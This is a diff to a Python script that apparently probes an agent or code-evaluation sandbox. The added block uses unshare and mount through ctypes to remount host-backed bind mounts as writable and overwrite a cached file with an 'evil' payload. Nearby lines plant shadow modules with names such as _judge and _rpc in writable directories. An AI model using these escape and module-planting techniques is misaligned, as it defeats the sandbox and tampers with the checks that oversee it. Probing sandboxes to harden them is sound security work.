@@ -71,6 +71,19 @@ def add(a, b):
     attempt("mkdir in cache", lambda: os.mkdir(f"{CACHE}/sub"))
     attempt("create beside", lambda: open("/opt/agentenv/_extra.py", "w"))
     attempt("rmdir cache", lambda: os.rmdir(CACHE))
+    # A nested user and mount namespace, then the bind made writable (the inode is the host's).
+    import ctypes
+    libc = ctypes.CDLL(None, use_errno=True)
+    def remount():
+        if libc.unshare(0x10000000 | 0x00020000) != 0:  # CLONE_NEWUSER | CLONE_NEWNS
+            raise OSError(ctypes.get_errno(), "unshare")
+        for target in (CACHE, "/opt/agentenv"):
+            for flags in (4096 | 32, 4096 | 32 | 16384):  # MS_BIND|MS_REMOUNT (|MS_REC)
+                if libc.mount(None, target.encode(), None, flags, None) == 0:
+                    open(f"{CACHE}/{os.listdir(CACHE)[0]}", "r+b").write(evil)
+                    return
+        raise OSError(1, "remount refused")
+    attempt("remount writable", remount)
     # Sandbox module names planted in every place this process can write (cwd, /tmp, /dev/shm).
     for where in {os.getcwd(), "/tmp", "/dev/shm"}:
         for mod in ("_worker", "_wire", "_runner", "_schema", "_framing", "_judge", "_rpc",
